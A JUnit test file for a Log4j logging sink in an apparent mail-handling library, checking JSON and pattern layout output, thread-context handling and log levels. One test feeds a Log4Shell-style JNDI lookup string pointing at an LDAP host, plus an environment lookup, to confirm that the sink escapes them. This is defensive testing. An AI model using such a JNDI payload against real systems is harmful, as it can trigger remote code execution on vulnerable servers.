package dev.replywise.sink.log4j;

import static org.assertj.core.api.Assertions.assertThat;

import dev.replywise.event.EventLevel;
import dev.replywise.event.EventRecord;
import dev.replywise.event.LogSink;
import dev.replywise.event.LogSinkFactory;
import dev.replywise.event.Samples;
import java.io.StringWriter;
import org.apache.logging.log4j.Level;
import org.apache.logging.log4j.LogManager;
import org.apache.logging.log4j.ThreadContext;
import org.apache.logging.log4j.core.LoggerContext;
import org.apache.logging.log4j.core.StringLayout;
import org.apache.logging.log4j.core.appender.WriterAppender;
import org.apache.logging.log4j.core.config.Configuration;
import org.apache.logging.log4j.core.config.LoggerConfig;
import org.apache.logging.log4j.core.layout.PatternLayout;
import org.apache.logging.log4j.layout.template.json.JsonTemplateLayout;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;

class Log4jSinkTest {
    private final LogSink sink = new Log4jSinkFactory().sink();
    private final LoggerContext context =
            (LoggerContext) LogManager.getContext(getClass().getClassLoader(), false);
    private final StringWriter written = new StringWriter();

    private void writeWith(StringLayout layout, Level level) {
        Configuration configuration = context.getConfiguration();
        WriterAppender appender = WriterAppender.createAppender(layout, null, written, "test", false, true);
        appender.start();
        LoggerConfig logger = new LoggerConfig(EventRecord.LOGGER, level, false);
        logger.addAppender(appender, null, null);
        configuration.addLogger(EventRecord.LOGGER, logger);
        context.updateLoggers();
    }

    @AfterEach
    void leave() {
        context.getConfiguration().removeLogger(EventRecord.LOGGER);
        context.updateLoggers();
        ThreadContext.clearAll();
    }

    @Test
    void aJsonTemplateLayoutShowsTheFieldsWithoutBeingTold() {
        writeWith(
                JsonTemplateLayout.newBuilder()
                        .setConfiguration(context.getConfiguration())
                        .setEventTemplateUri("classpath:EcsLayout.json")
                        .build(),
                Level.ALL);
        EventRecord event = Samples.refused("no {} %s such user");
        sink.log(event);
        assertThat(written.toString())
                .contains(
                        "\"message\":\"550 to RCPT j***@old.example from mx.old.example:25, permanent, mailbox-unknown: ")
                .contains("\"smtp.response.status_code\":\"550\"")
                .contains("\"smtp.response.text\":\"5.1.1 no {} %s such user\"")
                .contains("\"log.logger\":\"dev.replywise.reply\"");
    }

    @Test
    void aPatternShowsTheSentenceAndTheContextIsRestored() {
        ThreadContext.put("tenant", "t1");
        ThreadContext.put("event.name", "of the application");
        writeWith(
                PatternLayout.newBuilder()
                        .withPattern("%p %c %m %X{smtp.cause.id}%n")
                        .build(),
                Level.ALL);
        EventRecord event = Samples.refused("x");
        sink.log(event);
        assertThat(written.toString().trim())
                .isEqualTo("WARN dev.replywise.reply " + event.message() + " mailbox-unknown");
        assertThat(ThreadContext.getImmutableContext())
                .hasSize(2)
                .containsEntry("tenant", "t1")
                .containsEntry("event.name", "of the application");
    }

    @Test
    void lookupsAreBroken() {
        writeWith(PatternLayout.newBuilder().withPattern("%m %X%n").build(), Level.ALL);
        sink.log(Samples.refused("${env:HOME} ${jndi:ldap://192.0.2.1/x}"));
        assertThat(written.toString()).contains("$\\x7benv:HOME}").doesNotContain("${");
    }

    @Test
    void asksTheLoggersLevel() {
        writeWith(PatternLayout.createDefaultLayout(), Level.WARN);
        assertThat(sink.isEnabled(EventLevel.INFO)).isFalse();
        assertThat(sink.isEnabled(EventLevel.WARN)).isTrue();
        assertThat(sink.isEnabled(EventLevel.OFF)).isFalse();
    }

    @Test
    void coreIsReal() {
        assertThat(new Log4jSinkFactory().backing()).isEqualTo(LogSinkFactory.Backing.REAL);
    }
}
